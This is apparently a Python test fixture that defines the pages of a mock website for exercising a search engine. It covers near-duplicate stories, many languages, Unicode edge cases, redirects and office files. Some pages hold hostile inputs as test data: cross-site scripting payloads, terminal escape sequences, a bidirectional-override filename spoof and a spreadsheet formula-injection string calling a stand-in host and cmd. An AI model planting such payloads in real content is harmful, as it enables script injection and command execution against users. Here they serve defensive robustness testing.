"""The pages of a site that has one of everything that a search may stumble over."""

from office_files import docx, paragraph, pdf
from search_world import Page, html

STORY = (
    "In the first week of October the keeper of the northern lighthouse wrote down that the wind had turned.",
    "The quick brown fox that lived behind the boathouse came every evening and waited at the kitchen door.",
    "Nobody had taught it to do so, and nobody could say what it expected, for it never took what was offered.",
    "On the ninth day it brought a glove that belonged to the postman, and on the tenth it brought the other one.",
    "The keeper put both on the window sill, where they lay until the supply boat came with letters and flour.",
    "When the boatman saw them he laughed, and told how the postman had searched the whole village for his gloves.",
)
"""Of which copies are made."""
COPY = (*STORY[:2], STORY[2].replace("nobody could say", "no one could tell"), *STORY[3:])

CHINESE = (
    "十月的第一个星期，北方灯塔的看守人在日记里写道，风向已经变了，海上的船都回到了港口。",
    "住在船屋后面的那只狐狸每天晚上都来，在厨房门口安静地等着，从来不吃别人给它的东西。",
    "到了第九天，它带来了邮差的一只手套，第十天又带来了另一只，看守人把它们都放在窗台上。",
    "补给船带着信件和面粉来的时候，船夫看见手套就笑了，说邮差找遍了整个村子也没有找到。",
)
CHINESE_COPY = (*CHINESE[:2], CHINESE[2].replace("窗台上", "桌子上"), CHINESE[3])

TERMINAL = "\x1b[31mred wolf\x1b]0;owned\x07 \x9b2J"
BIDI = "wolf \u202egnp.exe\u2066 of the night"
SCRIPT = "</title><script>alert(1)</script> wolf &lt;img src=x onerror=alert(2)&gt;"

PAGES: dict[str, Page] = {
    "/fox": html("The fox and the gloves", *STORY),
    "/fox-again": html("The fox and the gloves, again", *COPY, links='<a href="/only-from-the-copy">more</a>'),
    "/fox-same": html("The fox and the gloves", *STORY),
    "/gloves": html("Gloves", "A glove covers the hand. The gloves of sailors were made of wool from the islands."),
    "/script": html(SCRIPT, "A wolf came &lt;script&gt;alert(3)&lt;/script&gt; down &lt;/mark&gt;&lt;b onclick=alert(4)&gt; to us."),
    "/terminal": html(TERMINAL, "The wolf of \x1b[2J the terminal \x07 howled \x9b31m all night long at the moon."),
    "/bidi": html(BIDI, "This wolf reads \u202e backwards \u2066 and nobody minds it at all."),
    "/formula": html('=HYPERLINK("http://x/?"&amp;A1,"wolf")', "A wolf that is a formula, @SUM(1+1)*cmd|' /C calc'!A0, and no more."),
    "/de": html("Der Leuchtturm", "Am Ende der langen Straße steht ein alter Leuchtturm, den früher ein Wärter bewohnte.",
                "Die Häuser im Dorf sind klein, und niemand weiß, wie alt sie wirklich sind.", lang="de"),
    "/fr": html("Le cheval", "Le vieux cheval du meunier ne voulait plus traverser la rivière depuis l'hiver dernier.", lang="fr"),
    "/ru": html("Мельница", "Старую мельницу у реки продали весной, и новый хозяин сразу начал чинить её крышу.", lang="ru"),
    "/es": html("La canción", "La abuela cantaba siempre la misma canción cuando los niños no podían dormir.", lang="es"),
    "/zh": html("年度总结", "委员会昨天公布了年度报告并且回答了记者的问题，数据库里保存着全部记录。", lang="zh"),
    "/zh-decoy": html("消息", "他告诉大家报纸上的消息并不准确，这些数据放在仓库的旧柜子里面。", lang="zh"),
    "/zh-story": html("灯塔", *CHINESE, lang="zh"),
    "/zh-story-again": html("灯塔", *CHINESE_COPY, lang="zh"),
    "/ja": html("地図", "昨日は市立図書館で古い地図を三枚見つけました。文書を検索することもできます。", lang="ja"),
    "/ko": html("지도", "어제 시립도서관에서 오래된 지도를 찾았고 문서를검색할 수 있었습니다.", lang="ko"),
    "/emoji": html("A badger 🦡", "The badger 🦡 walked past a family 👩‍👩‍👧‍👦 under the flag 🇫🇷 and said nothing."),
    "/marks": html("Cafe\u0301", "We met in the cafe\u0301 near the A\u030angstro\u0308m institute, where it was nai\u0308ve to wait."),
    "/zalgo": html("Marks", "The z" + "\u0301" * 500 + "algo text has more marks than letters, as some people like it."),
    "/mixed": html("Scripts", "Πλάτων said 数据 and мельничный ветер then مرحبا and שלום and नमस्ते and สวัสดี and ជំរាបសួរ and hello."),
    "/turkish": html("Istanbul", "İSTANBUL and ISPARTA are towns; STRASSE and Straße are one word, Σίσυφος is a name."),
    "/silence": Page(b"<title>Silence of pictures</title><body><img src=x.png></body>"),
    "/silence-too": Page(b"<title>More pictures</title><body><img src=y.png></body>"),
    "/nothing": Page(b""),
    "/long": html("Long words", f"The word {'lopado' * 1_000} is long, and so is {'q' * 300}, but shortword is not."),
    "/code": html("Code", "Call std::vec::Vec or foo_bar(x) with C++ and C# or .NET, version 1.2.3, and mail ada@example.org."),
    "/to-be": html("Hamlet", "To be, or not to be, that is the question that has been asked on this stage before."),
    "/report.pdf": Page(pdf("The annual zyzzogeton census"), "application/pdf"),
    "/notes.txt": Page(b"The zyzzogeton lives on trees and hunts other insects.\n", "text/plain; charset=utf-8"),
    "/minutes.docx": Page(docx(paragraph("The zyzzogeton committee met on a Tuesday.")),
                          "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    "/insect": html("An insect", "Nobody in the village had ever seen a zyzzogeton, but all of them feared it."),
    "/old": Page(b"moved, says the wolf", status=301, to="/fox"),
    "/gone": Page(html("Gone", "The wolf is not here any more, said the page of the error.").body, status=404),
    "/loop": Page(b"", status=302, to="/loop"),
    "/shop/product-123.html": html("Kettle", "A kettle of copper that holds two litres of water and sings."),
    "/shop/product-77.html?colour=red&size=[1]": html("Red kettle", "A kettle of enamel, red, which holds one litre of water."),
    "/shop/%E8%8C%B6.html": html("Teapot", "A teapot of clay for green tea, which must never be washed with soap."),
    "/2019": html("Yearbook", "The almanac of that year tells of a cold spring and of a late harvest.",
                  head='<meta property="article:published_time" content="2019-05-06">'),
    "/2026": html("Yearbook, new", "The almanac of this year tells of a warm spring and of an early harvest.",
                  head='<meta property="article:published_time" content="2026-02-03">'),
}  # fmt: skip
LATER = {"/only-from-the-copy": html("Hidden", "Only a near-duplicate links to this page about a pangolin.")}
